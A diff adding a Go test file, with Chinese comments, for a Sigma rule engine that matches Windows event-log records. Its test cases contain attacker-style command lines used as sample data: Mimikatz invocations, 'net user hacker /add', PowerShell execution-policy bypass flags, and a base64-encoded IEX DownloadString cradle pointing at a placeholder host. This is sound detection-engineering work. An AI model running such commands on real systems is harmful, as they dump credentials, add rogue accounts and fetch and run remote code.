@@ -0,0 +1,197 @@
+package pkg
+
+import (
+	"encoding/base64"
+	"strings"
+	"testing"
+)
+
+// compileTestSigmaRule 将 selection 下的字段编译为只有一个检测标识的规则
+func compileTestSigmaRule(t *testing.T, selection string) (*sigmaRule, error) {
+	t.Helper()
+	var b strings.Builder
+	b.WriteString("title: test\nlogsource:\n  product: windows\ndetection:\n  selection:\n")
+	for _, line := range strings.Split(selection, "\n") {
+		b.WriteString("    " + line + "\n")
+	}
+	b.WriteString("  condition: selection\n")
+	rules, err := parseSigmaRules([]byte(b.String()), "test.yml")
+	if err != nil {
+		return nil, err
+	}
+	if len(rules) != 1 {
+		t.Fatalf("应编译出 1 条规则，实际 %d 条", len(rules))
+	}
+	return rules[0], nil
+}
+
+// utf16leBase64 PowerShell -EncodedCommand 使用的编码
+func utf16leBase64(s string) string {
+	var b []byte
+	for _, c := range []byte(s) {
+		b = append(b, c, 0)
+	}
+	return base64.StdEncoding.EncodeToString(b)
+}
+
+func TestSigmaModifiers(t *testing.T) {
+	tests := []struct {
+		name      string
+		selection string
+		data      map[string]any
+		want      bool
+	}{
+		{"默认完全匹配且不区分大小写", `Image: 'C:\Windows\System32\cmd.exe'`, map[string]any{"Image": `c:\windows\system32\CMD.EXE`}, true},
+		{"完全匹配不命中子串", `Image: 'cmd.exe'`, map[string]any{"Image": `C:\Windows\System32\cmd.exe`}, false},
+		{"通配符", `Image: '*\powershell.exe'`, map[string]any{"Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`}, true},
+		{"转义的通配符按原文匹配", `CommandLine|contains: 'a\*b'`, map[string]any{"CommandLine": "axxb"}, false},
+		{"contains", `CommandLine|contains: 'mimikatz'`, map[string]any{"CommandLine": `C:\tools\MIMIKATZ.exe privilege::debug`}, true},
+		{"startswith", `CommandLine|startswith: 'net '`, map[string]any{"CommandLine": "net user hacker /add"}, true},
+		{"endswith", `TargetFilename|endswith: '.ps1'`, map[string]any{"TargetFilename": `C:\Users\Public\a.ps1.txt`}, false},
+		{"cased 区分大小写", `CommandLine|contains|cased: 'Invoke-Mimikatz'`, map[string]any{"CommandLine": "invoke-mimikatz"}, false},
+		{"列表中任一值命中", "CommandLine|contains:\n  - 'whoami'\n  - 'ipconfig'", map[string]any{"CommandLine": "cmd /c ipconfig /all"}, true},
+		{"all 需要全部命中", "CommandLine|contains|all:\n  - '-nop'\n  - 'bypass'", map[string]any{"CommandLine": "powershell -nop -w hidden"}, false},
+		{"all 全部命中", "CommandLine|contains|all:\n  - '-nop'\n  - 'bypass'", map[string]any{"CommandLine": "powershell -nop -ep bypass"}, true},
+		{"windash 匹配斜杠", `CommandLine|windash|contains: ' -exec bypass'`, map[string]any{"CommandLine": "powershell /exec bypass"}, true},
+		{"windash 匹配破折号", `CommandLine|windash|contains: ' -exec bypass'`, map[string]any{"CommandLine": "powershell –exec bypass"}, true},
+		{"base64", `CommandLine|base64|contains: 'whoami'`, map[string]any{"CommandLine": "echo " + base64.StdEncoding.EncodeToString([]byte("whoami"))}, true},
+		{"base64offset 偏移 0", `CommandLine|base64offset|contains: 'http://'`, map[string]any{"CommandLine": base64.StdEncoding.EncodeToString([]byte("http://evil/a.ps1"))}, true},
+		{"base64offset 偏移 1", `CommandLine|base64offset|contains: 'http://'`, map[string]any{"CommandLine": base64.StdEncoding.EncodeToString([]byte("Ghttp://evil/a.ps1"))}, true},
+		{"base64offset 偏移 2", `CommandLine|base64offset|contains: 'http://'`, map[string]any{"CommandLine": base64.StdEncoding.EncodeToString([]byte("IEhttp://evil/a.ps1"))}, true},
+		{"base64offset 区分大小写", `CommandLine|base64offset|contains: 'http://'`, map[string]any{"CommandLine": base64.StdEncoding.EncodeToString([]byte("HTTP://evil/a.ps1"))}, false},
+		{"wide base64offset", `CommandLine|wide|base64offset|contains: 'DownloadString'`, map[string]any{"CommandLine": "powershell -enc " + utf16leBase64("IEX (New-Object Net.WebClient).DownloadString('http://x')")}, true},
+		{"re", `CommandLine|re: '^cmd\.exe /c .*whoami'`, map[string]any{"CommandLine": "cmd.exe /c echo %username% & whoami"}, true},
+		{"re 默认区分大小写", `CommandLine|re: 'WHOAMI'`, map[string]any{"CommandLine": "whoami"}, false},
+		{"re 的 i 标志", `CommandLine|re|i: 'WHOAMI'`, map[string]any{"CommandLine": "whoami"}, true},
+		{"cidr 命中", `IpAddress|cidr: '10.0.0.0/8'`, map[string]any{"IpAddress": "10.1.2.3"}, true},
+		{"cidr 不命中", `IpAddress|cidr: '10.0.0.0/8'`, map[string]any{"IpAddress": "192.168.1.1"}, false},
+		{"gt", `LogonType|gt: 5`, map[string]any{"LogonType": "10"}, true},
+		{"lte", `LogonType|lte: 5`, map[string]any{"LogonType": "10"}, false},
+		{"数值比较忽略非数字", `LogonType|gte: 0`, map[string]any{"LogonType": "-"}, false},
+		{"exists 为 false 时字段不存在", `SubjectUserName|exists: false`, map[string]any{"TargetUserName": "admin"}, true},
+		{"exists 为 true 时字段不存在", `SubjectUserName|exists: true`, map[string]any{"TargetUserName": "admin"}, false},
+		{"null 匹配不存在的字段", `ParentImage: null`, map[string]any{"Image": "a.exe"}, true},
+		{"null 匹配空字段", `ParentImage: null`, map[string]any{"ParentImage": ""}, true},
+		{"null 不匹配有值的字段", `ParentImage: null`, map[string]any{"ParentImage": "explorer.exe"}, false},
+		{"字段名不区分大小写", `commandline|contains: 'whoami'`, map[string]any{"CommandLine": "whoami"}, true},
+		{"系统字段", `EventID: 4688`, map[string]any{}, true},
+		{"嵌套的 UserData", `SubjectUserName: 'admin'`, map[string]any{"LogFileCleared": map[string]any{"SubjectUserName": "admin"}}, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rule, err := compileTestSigmaRule(t, tt.selection)
+			if err != nil {
+				t.Fatalf("编译规则失败: %v", err)
+			}
+			e := &EVTXEvent{EventID: 4688, Channel: "Security", EventData: tt.data}
+			if _, nested := tt.data["LogFileCleared"]; nested {
+				e.EventData, e.UserData = nil, tt.data
+			}
+			if got := rule.match(e); got != tt.want {
+				t.Errorf("match = %v，应为 %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSigmaModifierErrors(t *testing.T) {
+	tests := []struct {
+		name      string
+		selection string
+		wantErr   string
+	}{
+		{"未知修饰符", `CommandLine|foo: 'x'`, "不支持的修饰符"},
+		{"错误的正则", `CommandLine|re: '('`, "正则表达式格式错误"},
+		{"错误的 CIDR", `IpAddress|cidr: '10.0.0.0/33'`, "CIDR 格式错误"},
+		{"比较的值不是数字", `LogonType|gt: 'abc'`, "必须是数字"},
+		{"exists 的值不是布尔值", `SubjectUserName|exists: 'yes'`, "exists 修饰符"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := compileTestSigmaRule(t, tt.selection)
+			if err == nil {
+				t.Fatal("应返回错误")
+			}
+			if !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("错误 %q 中应包含 %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestSigmaCondition(t *testing.T) {
+	// 检测标识按 EventData 中同名字段是否存在命中
+	searches := make(map[string]sigmaExpr)
+	for _, name := range []string{"sel_a", "sel_b", "filter", "_internal"} {
+		name := name
+		searches[name] = func(e *EVTXEvent) bool {
+			_, ok := e.EventData[name]
+			return ok
+		}
+	}
+	event := func(names ...string) *EVTXEvent {
+		data := make(map[string]any)
+		for _, name := range names {
+			data[name] = "1"
+		}
+		return &EVTXEvent{EventData: data}
+	}
+
+	tests := []struct {
+		name      string
+		condition string
+		event     *EVTXEvent
+		want      bool
+	}{
+		{"单个标识", "sel_a", event("sel_a"), true},
+		{"and not", "sel_a and not filter", event("sel_a", "filter"), false},
+		{"not 优先于 and", "not filter and sel_a", event("sel_a"), true},
+		{"and 优先于 or", "sel_a or sel_b and filter", event("sel_a"), true},
+		{"括号改变优先级", "(sel_a or sel_b) and filter", event("sel_a"), false},
+		{"嵌套的 not", "not not sel_a", event("sel_a"), true},
+		{"关键字不区分大小写", "sel_a AND NOT filter", event("sel_a"), true},
+		{"1 of 通配符", "1 of sel_*", event("sel_b"), true},
+		{"all of 通配符", "all of sel_*", event("sel_b"), false},
+		{"all of 全部命中", "all of sel_*", event("sel_a", "sel_b"), true},
+		{"1 of them", "1 of them", event("filter"), true},
+		{"all of them 不包括下划线开头的标识", "all of them", event("sel_a", "sel_b", "filter"), true},
+		{"any of 与 1 of 相同", "any of sel_* and not filter", event("sel_a"), true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			expr, err := parseSigmaCondition(tt.condition, searches)
+			if err != nil {
+				t.Fatalf("解析 %q 失败: %v", tt.condition, err)
+			}
+			if got := expr(tt.event); got != tt.want {
+				t.Errorf("%q = %v，应为 %v", tt.condition, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSigmaConditionErrors(t *testing.T) {
+	searches := map[string]sigmaExpr{"sel": func(e *EVTXEvent) bool { return true }}
+	tests := []struct {
+		condition string
+		wantErr   string
+	}{
+		{"sel and", "condition 不完整"},
+		{"(sel", "缺少右括号"},
+		{"sel)", "condition 格式错误"},
+		{"missing", "检测标识不存在"},
+		{"1 of filter_*", "检测标识不存在"},
+		{"sel | count() > 5", "不支持聚合条件"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.condition, func(t *testing.T) {
+			_, err := parseSigmaCondition(tt.condition, searches)
+			if err == nil {
+				t.Fatal("应返回错误")
+			}
+			if !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("错误 %q 中应包含 %q", err, tt.wantErr)
+			}
+		})
+	}
+}